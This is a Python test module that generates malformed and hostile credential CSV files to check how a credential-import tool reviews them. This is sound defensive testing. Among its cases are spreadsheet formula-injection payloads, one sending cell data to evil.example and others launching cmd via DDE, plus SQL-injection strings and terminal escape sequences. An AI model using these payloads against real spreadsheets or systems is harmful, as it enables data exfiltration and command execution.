"""The hostile-file corpus: broken and malicious credential CSV files, made at test time.

Operators are sent credential files by anyone: exports of legacy systems, spreadsheets saved by
hand, files joined together, files built to attack the next tool that opens them. Each
:class:`Hostile` here makes one such file (nothing large is committed: the 250,000-row and 10 MB
files are generated in a fraction of a second) and says what a careful operator expects of it:
the findings it must get (code, row, column), the review's exit status, the error codes that may
come with them, and how many credentials ``credkit import`` creates from it.

The files are reviewed against the directory :func:`populate` fills: Ada and Kim, and one user per
formula-injection payload whose name and External ID are that payload.

A case whose ``bug`` is set documents a credkit bug outside ``credkit/reading.py``: its test is
expected to fail (``xfail(strict=True)``) until the bug is fixed.
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import zipfile
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path

from credkit.columns import HEADERS
from credkit.directory import Directory, NewUser
from tests.support import ADA, KIM

BOM = b"\xef\xbb\xbf"
MAX_ROWS = 250_000

#: Formula-injection payloads: a spreadsheet would run each as a formula (or a DDE command).
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "dde-command": "+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus-arithmetic": "-2+3",
}
#: The users whose first name and External ID are a formula payload, by payload name.
FORMULA_USERS = {
    name: f"44444444-4444-4444-8444-{index:012d}" for index, name in enumerate(FORMULAS)
}
SQL = "'; DROP TABLE users; --"


class _Any:
    """Matches anything: the row or column is not what the case is about."""

    def __repr__(self) -> str:
        return "ANY"


ANY = _Any()


@dataclass(frozen=True)
class Expect:
    """One finding a file must get. ``column=None`` means the finding names no column."""

    code: str
    row: int | None | _Any = ANY
    column: str | None | _Any = ANY

    def matches(self, code: str, row: int | None, column: str | None) -> bool:
        return (
            code == self.code
            and (self.row is ANY or row == self.row)
            and (self.column is ANY or column == self.column)
        )


@dataclass(frozen=True)
class Hostile:
    """One hostile file and what it must get."""

    kind: str  #: the test id
    make: Callable[[], bytes]
    expect: tuple[Expect, ...] = ()  #: findings that must be there
    status: int = 0  #: the review's exit status (0 no errors, 1 row errors, 2 rejected)
    allowed: frozenset[str] = frozenset()  #: other error codes that may come with them
    created: int | None = 0  #: credentials `credkit import` creates; None: not imported (size)
    bug: str | None = None  #: why it fails today (a credkit bug outside reading.py)
    suffix: str = ".csv"

    def write(self, folder: Path) -> Path:
        path = folder / f"{self.kind}{self.suffix}"
        path.write_bytes(self.make())
        return path

    @property
    def error_codes(self) -> set[str]:
        """Every error code the file may get: the expected ones and the allowed ones."""
        return {expect.code for expect in self.expect} | set(self.allowed)


def populate(directory: Directory) -> Directory:
    """The users the corpus is reviewed against."""
    directory.add_users(
        [
            NewUser("Ada", "Lovelace", external_id="E1", email="ada@example.com", user_id=ADA),
            NewUser("Kim", "Kowalski", external_id="E3", email="kim@example.com", user_id=KIM),
            *(
                NewUser(payload, "Formula", external_id=payload, user_id=FORMULA_USERS[name])
                for name, payload in FORMULAS.items()
            ),
        ]
    )
    return directory


# --------------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------------


def csv_text(
    rows: Iterable[Mapping[str, str]], headers: list[str] = HEADERS, newline: str = "\n"
) -> str:
    """Rows (header -> value; missing ones empty) as CSV text, quoted where needed."""
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=headers, lineterminator=newline, restval="")
    writer.writeheader()
    writer.writerows(rows)
    return stream.getvalue()


def csv_bytes(rows: Iterable[Mapping[str, str]], headers: list[str] = HEADERS) -> bytes:
    return csv_text(rows, headers).encode("utf-8")


def good(plate: str, **fields: str) -> dict[str, str]:
    """A row that passes: Ada gets a new license plate (fields by header, spaces as _)."""
    return {"User ID": ADA, "License Plate": plate} | {
        name.replace("_", " "): value for name, value in fields.items()
    }


def bad(plate: str = "A") -> dict[str, str]:
    """A row that fails with plate-invalid (a plate of one letter)."""
    return {"User ID": ADA, "License Plate": plate}


def _encoded(encoding: str, rows: list[dict[str, str]]) -> Callable[[], bytes]:
    return lambda: csv_text(rows).encode(encoding)


def _xlsx() -> bytes:
    """A real (minimal) Excel workbook: a zip archive, renamed .csv by its sender."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as workbook:
        workbook.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        workbook.writestr("xl/workbook.xml", "<workbook><sheets><sheet name='Sheet1'/></sheets>")
        workbook.writestr(
            "xl/worksheets/sheet1.xml",
            "<worksheet><sheetData><row><c t='inlineStr'><is><t>User ID</t></is></c></row>"
            "</sheetData></worksheet>",
        )
    return stream.getvalue()


def _binary() -> bytes:
    rng = random.Random(20261125)
    return bytes(rng.randrange(256) for _ in range(4096))


def _plates(count: int) -> bytes:
    """A header and count rows, each a new plate for Ada: made in about 0.1 s for 250,001."""
    line = "User ID,License Plate\n"
    return (line + "".join([f"{ADA},P{i:07d}\n" for i in range(count)])).encode("ascii")


def _joined(*parts: bytes) -> Callable[[], bytes]:
    return lambda: b"".join(parts)


# Every error the row gets when each of its 14 cells holds the same junk.
_JUNK_ROW_ERRORS = frozenset(
    {
        "not-digits",
        "hex-invalid",
        "plate-invalid",
        "entry-code-invalid",
        "status-invalid",
        "modified-invalid",
        "multiple-credentials",
        "unknown-user",
        "field-too-long",
    }
)

_LONG = 70_000  # 14 of them make a line just under the 1 MiB a line may have
_FIFTY_MB = 50 * 1024 * 1024
_TEN_MB = 10 * 1024 * 1024
_GOOD_TWO = [good("GOOD01"), good("GOOD02")]

# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------

CORPUS: list[Hostile] = [
    # --- encodings ---------------------------------------------------------------------------
    Hostile("utf16-with-bom", _encoded("utf-16", _GOOD_TWO), (Expect("not-utf8"),), 2),
    Hostile("utf16le-without-bom", _encoded("utf-16-le", _GOOD_TWO), (Expect("not-utf8"),), 2),
    Hostile("utf16be-without-bom", _encoded("utf-16-be", _GOOD_TWO), (Expect("not-utf8"),), 2),
    Hostile("utf32-with-bom", _encoded("utf-32", _GOOD_TWO), (Expect("not-utf8"),), 2),
    Hostile(
        "windows-1252-names",
        _encoded(
            "cp1252", [good("GOOD01"), good("GOOD02", First_Name="Zoë", Last_Name="Brontë–Ó")]
        ),
        (Expect("not-utf8", 3, None),),
        2,
    ),
    Hostile(
        "latin-1-names",
        _encoded("latin-1", [good("GOOD01"), good("GOOD02"), good("GOOD03", Last_Name="Müller")]),
        (Expect("not-utf8", 4, None),),
        2,
    ),
    Hostile(
        "windows-1252-smart-quotes-and-euro",
        _encoded("cp1252", [good("GOOD01", First_Name="“Ada” €")]),
        (Expect("not-utf8", 2, None),),
        2,
    ),
    Hostile(
        # Two exports joined with `cat`: the second one's BOM lands before a data row.
        "utf8-bom-in-the-middle",
        _joined(
            BOM,
            csv_bytes([good("GOOD01")], ["User ID", "License Plate"]),
            BOM,
            b"%b,GOOD02\n" % ADA.encode(),
        ),
        (),
        0,
        created=2,
    ),
    Hostile(
        # Two whole exports joined: row 3 is the second file's header, BOM and all.
        "utf8-bom-two-files-joined",
        _joined(csv_bytes([good("GOOD01")]), BOM, csv_bytes([good("GOOD02")])),
        (Expect("unknown-user", 3, "User ID"),),
        1,
        allowed=_JUNK_ROW_ERRORS,
        created=2,
    ),
    # --- line endings ------------------------------------------------------------------------
    Hostile(
        "mixed-line-endings",
        lambda: (
            f"User ID,License Plate\r\n{ADA},GOOD01\n{ADA},GOOD02\r{ADA},GOOD03\r\n{ADA},A\n"
        ).encode(),
        (Expect("plate-invalid", 5, "License Plate"),),
        1,
        created=3,
    ),
    Hostile(
        "lone-cr-line-endings",
        lambda: f"User ID,License Plate\r{ADA},GOOD01\r{ADA},GOOD02\r{ADA},A\r".encode(),
        (Expect("plate-invalid", 4, "License Plate"),),
        1,
        created=2,
    ),
    Hostile(
        "crlf-inside-a-quoted-value",
        lambda: (
            f'User ID,License Plate,First Name\r\n{ADA},GOOD01,"Ada\r\nAugusta"\r\n{ADA},A,Ada\r\n'
        ).encode(),
        (Expect("plate-invalid", 3, "License Plate"),),
        1,
        created=1,
    ),
    # --- not text ----------------------------------------------------------------------------
    Hostile(
        "nul-bytes",
        lambda: f"User ID,License Plate\n{ADA},GOOD01\n{ADA},GO\0OD02\n".encode(),
        (Expect("unreadable", 3, None),),
        2,
    ),
    Hostile("binary-garbage", _binary, (Expect("unreadable"),), 2),
    Hostile("xlsx-renamed-csv", _xlsx, (Expect("unreadable"),), 2),
    Hostile(
        "xls-renamed-csv",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        (Expect("unreadable"),),
        2,
    ),
    Hostile(
        "pdf-renamed-csv",
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
        (Expect("unreadable"),),
        2,
    ),
    Hostile(
        "gzip-renamed-csv", lambda: gzip.compress(csv_bytes(_GOOD_TWO)), (Expect("unreadable"),), 2
    ),
    # --- delimiters and quoting --------------------------------------------------------------
    Hostile(
        "semicolon-delimited",
        lambda: csv_text(_GOOD_TWO).replace(",", ";").encode(),
        (Expect("wrong-delimiter", 1, None),),
        2,
    ),
    Hostile(
        "tab-delimited",
        lambda: csv_text(_GOOD_TWO).replace(",", "\t").encode(),
        (Expect("wrong-delimiter", 1, None),),
        2,
    ),
    Hostile(
        "quoted-fields-with-embedded-newlines",
        lambda: csv_bytes(
            [
                good("GOOD01", First_Name="Ada\nAugusta"),
                good("GOOD02", Last_Name="Love\n\nlace"),
                bad(),
            ]
        ),
        (Expect("plate-invalid", 4, "License Plate"),),
        1,
        created=2,
    ),
    Hostile(
        "quoted-fields-with-embedded-quotes",
        lambda: csv_bytes(
            [
                good("GOOD01", First_Name='Ada "the Countess"'),
                good("GOOD02", Last_Name='Lovelace, "née" Byron'),
                bad(),
            ]
        ),
        (Expect("plate-invalid", 4, "License Plate"),),
        1,
        created=2,
    ),
    Hostile(
        "unquoted-delimiter-in-a-value",
        lambda: (
            f"User ID,Last Name,License Plate\n{ADA},Lovelace, Ada,GOOD01\n{ADA},L,GOOD02\n".encode()
        ),
        (Expect("extra-fields", 2, None),),
        1,
        allowed=frozenset({"plate-invalid"}),  # " Ada" lands in License Plate
        created=1,
    ),
    Hostile(
        "quote-opened-and-never-closed",
        lambda: f'User ID,License Plate\n{ADA},GOOD01\n{ADA},"GOOD02\n{ADA},GOOD03\n'.encode(),
        (Expect("unreadable", 3, None),),
        2,
    ),
    # --- shape -------------------------------------------------------------------------------
    Hostile("header-only", lambda: csv_bytes([]), (Expect("no-rows", 2, None),), 2),
    Hostile("empty-file", lambda: b"", (Expect("empty-file", 1, None),), 2),
    Hostile("whitespace-only", lambda: b" \r\n\t\n  \n", (Expect("empty-file", 1, None),), 2),
    Hostile(
        "byte-order-marks-only",
        lambda: BOM + b"\n" + BOM + BOM + b"\r\n",
        (Expect("empty-file", 1, None),),
        2,
    ),
    Hostile(
        "blank-line-above-the-header",
        lambda: b"\n" + csv_bytes(_GOOD_TWO),
        (Expect("unreadable", 1, None),),
        2,
    ),
    Hostile(
        "blank-rows-between-rows",
        lambda: f"User ID,License Plate\n{ADA},GOOD01\n\n,\n{ADA},GOOD02\n".encode(),
        (Expect("blank-row", 3, None), Expect("blank-row", 4, None)),
        0,
        created=2,
    ),
    Hostile("rows-250000", lambda: _plates(MAX_ROWS), (), 0, created=None),
    Hostile(
        "rows-250001",
        lambda: _plates(MAX_ROWS + 1),
        (Expect("too-many-rows", MAX_ROWS + 2, None),),
        2,
    ),
    Hostile(  # a line longer than MAX_LINE_BYTES (1 MiB): refused, naming the row
        "one-10mb-field",
        lambda: f"User ID,License Plate\n{ADA},".encode() + b"Y" * _TEN_MB + b"\n",
        (Expect("row-too-long", 2, None),),
        2,
    ),
    Hostile(  # just within the line limit: read, and the value gets its finding
        "one-1mb-field",
        lambda: f"User ID,License Plate\n{ADA},".encode() + b"Y" * 1_000_000 + b"\n",
        (Expect("plate-invalid", 2, "License Plate"),),
        1,
    ),
    Hostile(
        "one-50mb-cell",
        lambda: f"User ID,License Plate\n{ADA},GOOD01\n{ADA},".encode() + b"Y" * _FIFTY_MB,
        (Expect("row-too-long", 3, None),),
        2,
    ),
    Hostile(
        "columns-140000",
        lambda: (
            "User ID,License Plate,"
            + ",".join(f"X{i}" for i in range(139_998))
            + f"\n{ADA},GOOD01\n"
        ).encode(),
        (Expect("too-many-columns", 1, None),),
        2,
    ),
    Hostile(  # blank rows (an empty last line, Excel's ,,,, rows) are no data rows
        "rows-250000-and-blank-rows",
        lambda: _plates(MAX_ROWS) + b"\n,\n,,,,\n",
        (Expect("blank-row", MAX_ROWS + 2, None), Expect("blank-row", MAX_ROWS + 4, None)),
        0,
        created=None,
    ),
    Hostile(
        "excel-sep-line",
        lambda: f"sep=,\nUser ID,License Plate\n{ADA},GOOD01\n".encode(),
        (Expect("excel-sep-line", 1, None),),
        2,
    ),
    Hostile(
        "columns-10000",
        lambda: (
            "User ID,License Plate,"
            + ",".join(f"X{i}" for i in range(9_998))
            + f"\n{ADA},GOOD01"
            + "," * 9_998
            + "\n"
        ).encode(),
        (Expect("unknown-column", 1, "X0"), Expect("unknown-column", 1, "X9997")),
        0,
        created=1,
    ),
    # --- headers -----------------------------------------------------------------------------
    Hostile(
        "duplicate-headers",
        lambda: f"User ID,License Plate,License Plate\n{ADA},GOOD01,GOOD02\n".encode(),
        (Expect("duplicate-column", 1, "License Plate"),),
        2,
    ),
    Hostile(
        "duplicate-headers-after-folding",
        lambda: f"User ID,License Plate,license_plate\n{ADA},GOOD01,GOOD02\n".encode(),
        (Expect("duplicate-column", 1, "License Plate"),),
        2,
    ),
    Hostile(
        "blank-headers",
        lambda: f"User ID,,License Plate,\n{ADA},x,GOOD01,y\n".encode(),
        (Expect("unknown-column", 1, ""),),
        0,
        created=1,
    ),
    Hostile(
        "header-with-non-breaking-space",
        lambda: f"User ID,License\u00a0Plate\n{ADA},GOOD01\n".encode(),
        (Expect("header-folded", 1, "License Plate"),),
        0,
        created=1,
    ),
    Hostile(
        "header-with-zero-width-space",
        lambda: f"User\u200b ID,License Plate\n{ADA},GOOD01\n".encode(),
        (Expect("header-folded", 1, "User ID"),),
        0,
        created=1,
    ),
    Hostile(
        "header-with-bom-inside",
        lambda: f"User ID,\ufeffLicense Plate\n{ADA},GOOD01\n".encode(),
        (),
        0,
        created=1,
    ),
    Hostile(
        "header-with-terminal-escapes",
        lambda: f"User ID,License Plate\x1b[2J\x1b]0;pwned\x07\n{ADA},GOOD01\n".encode(),
        (Expect("missing-credential-column", 1, None),),
        2,
        allowed=frozenset({"header-suggestion"}),
    ),
    # --- look-alike letters ------------------------------------------------------------------
    Hostile(
        "email-with-cyrillic-a",
        lambda: "Email,License Plate\n\u0430da@example.com,GOOD01\n".encode(),
        (Expect("unknown-user", 2, "Email"),),
        1,
    ),
    Hostile(
        "email-with-cyrillic-a-beside-user-id",
        lambda: f"User ID,Email,License Plate\n{ADA},\u0430da@example.com,GOOD01\n".encode(),
        (Expect("key-unmatched", 2, "Email"),),
        0,
        created=1,
    ),
    Hostile(
        "email-with-fullwidth-k",
        lambda: "Email,License Plate\n\uff4bim@example.com,GOOD01\n".encode(),
        (Expect("unknown-user", 2, "Email"),),
        1,
    ),
    Hostile(
        "email-with-kelvin-sign",
        lambda: "Email,License Plate\n\u212aim@example.com,GOOD01\n".encode(),
        (Expect("unknown-user", 2, "Email"),),
        1,
    ),
    Hostile(
        "email-with-dotted-capital-i",
        lambda: "Email,License Plate\nK\u0130M@example.com,GOOD01\n".encode(),
        (Expect("unknown-user", 2, "Email"),),
        1,
    ),
    Hostile(
        "external-id-with-cyrillic-e",
        lambda: "External ID,License Plate\n\u04151,GOOD01\n".encode(),
        (Expect("unknown-user", 2, "External ID"),),
        1,
    ),
    # --- Excel damage ------------------------------------------------------------------------
    Hostile(
        "excel-scientific-notation",
        lambda: csv_bytes(
            [{"User ID": ADA, "Card Type": "HID iClass", "Card Number": "1.23457E+18"}]
        ),
        (Expect("scientific-notation", 2, "Card Number"),),
        1,
    ),
    Hostile(
        "excel-lost-leading-zeros",
        lambda: csv_bytes([{"User ID": ADA, "Entry Code": "42"}]),
        (Expect("entry-code-leading-zeros", 2, "Entry Code"),),
        1,
    ),
    Hostile(
        "excel-date-as-serial-number",
        lambda: csv_bytes([good("GOOD01", Modified="45988.5")]),
        (Expect("modified-invalid", 2, "Modified"),),
        1,
    ),
    Hostile(
        "excel-thousands-separator",
        lambda: csv_bytes(
            [
                {
                    "User ID": ADA,
                    "Card Type": "Standard 26-bit Wiegand",
                    "Facility Code": "1",
                    "Card Number": "1,603",
                }
            ]
        ),  # fmt: skip
        (Expect("not-digits", 2, "Card Number"),),
        1,
    ),
    # --- formula injection: plain text, matched as written ------------------------------------
    *(
        Hostile(
            f"formula-{name}",
            (
                lambda payload=payload, index=index: csv_bytes(
                    [
                        {
                            "First Name": payload,
                            "Last Name": "Formula",
                            "External ID": payload,
                            "License Plate": f"FORM{index}",
                        }
                    ]
                )  # fmt: skip
            ),
            (),
            0,
            created=1,
        )
        for index, (name, payload) in enumerate(FORMULAS.items())
    ),
    Hostile(
        "formula-with-export-prefix",
        lambda: csv_bytes(
            [
                {
                    "First Name": "'" + payload,
                    "Last Name": "Formula",
                    "External ID": "'" + payload,
                    "License Plate": f"FORM{index}",
                }
                for index, payload in enumerate(FORMULAS.values())
            ]
        ),  # fmt: skip
        (),
        0,
        created=len(FORMULAS),
    ),
    # --- SQL-looking values ------------------------------------------------------------------
    Hostile(
        "sql-in-every-column",
        lambda: csv_bytes([dict.fromkeys(HEADERS, SQL)]),
        (Expect("unknown-user", 2, "User ID"), Expect("plate-invalid", 2, "License Plate")),
        1,
        allowed=_JUNK_ROW_ERRORS,
    ),
    Hostile(
        "sql-in-names-and-keys",
        lambda: csv_bytes(
            [
                good(
                    "GOOD01",
                    First_Name="Robert'); DROP TABLE credentials;--",
                    Email="x@example.com' OR '1'='1",
                    Employee_ID=SQL,
                ),
            ]
        ),  # fmt: skip
        (Expect("key-unmatched", 2, "Email"),),
        0,
        created=1,
    ),
    # --- very long values --------------------------------------------------------------------
    Hostile(
        "long-values-in-every-column",
        lambda: csv_bytes([{header: "x" * _LONG for header in HEADERS}]),
        (
            Expect("unknown-user", 2, "User ID"),
            Expect("plate-invalid", 2, "License Plate"),
            Expect("entry-code-invalid", 2, "Entry Code"),
        ),
        1,
        allowed=_JUNK_ROW_ERRORS,
    ),
    Hostile(
        "long-digits-in-card-number",
        lambda: csv_bytes(
            [{"User ID": ADA, "Card Type": "HID iClass", "Card Number": "7" * 5_000}]
        ),
        (Expect("card-number-range", 2, "Card Number"),),
        1,
    ),
    # --- values the review once passed and the import could not write, and their kin -------
    Hostile(
        "hex-only-prefix",
        lambda: csv_bytes([{"User ID": ADA, "Card Type": "HID iClass", "Card Number Hex": "0x"}]),
        (Expect("hex-invalid", 2, "Card Number Hex"),),
        1,
    ),
    Hostile(
        "hex-leading-zeros",
        lambda: csv_bytes(
            [
                {
                    "User ID": ADA,
                    "Card Type": "Standard 26-bit Wiegand",
                    "Card Number Hex": "000002EC0C86",
                }
            ]
        ),
        (Expect("hex-leading-zeros", 2, "Card Number Hex"),),
        0,
        created=1,
    ),
    Hostile(
        "modified-in-future",
        lambda: csv_bytes([good("GOOD01", Modified="9999-12-31T23:59:59Z")]),
        (Expect("modified-in-future", 2, "Modified"),),
        0,
        created=1,
    ),
    Hostile(
        "first-name-too-long",
        lambda: csv_bytes([good("GOOD01", First_Name="A" * 300), good("GOOD02")]),
        (Expect("field-too-long", 2, "First Name"),),
        1,
        created=1,
    ),
    # --- control and invisible characters ----------------------------------------------------
    Hostile(
        "control-characters-in-a-name",
        lambda: csv_bytes([good("GOOD01", First_Name="Ada\x07\x1b[31m\x08")]),
        (Expect("name-mismatch", 2, "First Name"),),
        0,
        created=1,
    ),
    Hostile(
        "terminal-escape-in-entry-code",
        lambda: csv_bytes([{"User ID": ADA, "Entry Code": "1234\x1bc"}]),
        (Expect("entry-code-invalid", 2, "Entry Code"),),
        1,
    ),
    Hostile(
        "bidi-override-in-plate",
        lambda: csv_bytes([good("\u202e21BA")]),
        (Expect("plate-invalid", 2, "License Plate"),),
        1,
    ),
]

BY_KIND = {case.kind: case for case in CORPUS}
assert len(BY_KIND) == len(CORPUS), "corpus kinds must be unique"
